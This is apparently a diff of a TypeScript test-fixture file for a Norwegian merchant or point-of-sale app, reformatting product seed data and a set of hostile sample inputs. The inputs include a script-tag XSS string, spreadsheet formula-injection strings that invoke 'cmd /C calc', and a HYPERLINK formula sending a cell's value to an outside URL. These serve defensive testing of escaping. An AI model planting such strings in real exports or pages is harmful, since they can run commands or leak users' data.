@@ -57,8 +57,8 @@ export const HOSTILE_TEXT = {
   script: '<script>window.__xss=1</script>Kanelbolle',
   formula: '=HYPERLINK("https://example.invalid/?q="&A1,"Klikk her")',
   plusPhone: '+4799999999',
-  atFormula: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  minusFormula: '-2+3+cmd|\' /C calc\'!A0',
+  atFormula: "@SUM(1+1)*cmd|' /C calc'!A0",
+  minusFormula: "-2+3+cmd|' /C calc'!A0",
   long: `Ekstra lang produktbeskrivelse med særnorske tegn æøå ÆØÅ ${'– svært lang tekst '.repeat(16)}slutt`,
 } as const
 
@@ -85,7 +85,13 @@ export const MERCHANTS: readonly Merchant[] = [
       { name: 'Kanelbolle', category: 'Bakst', price: 4500, vatRate: FOOD, weight: 18 },
       { name: 'Skolebolle', category: 'Bakst', price: 4900, vatRate: FOOD, weight: 10 },
       { name: 'Rundstykke med brunost', category: 'Mat', price: 6900, vatRate: FOOD, weight: 8 },
-      { name: 'Kaffebønner Løkka-blend 250 g', category: 'Kaffebønner', price: 14900, vatRate: FOOD, weight: 4 },
+      {
+        name: 'Kaffebønner Løkka-blend 250 g',
+        category: 'Kaffebønner',
+        price: 14900,
+        vatRate: FOOD,
+        weight: 4,
+      },
       { name: 'Termokopp', category: 'Utstyr', price: 24900, vatRate: GOODS, weight: 2 },
       { name: 'Kaffekurs (billett)', category: 'Kurs', price: 39900, vatRate: TICKET, weight: 0.6 },
       { name: HOSTILE_TEXT.script, category: 'Bakst', price: 4500, vatRate: FOOD, weight: 0.08 },
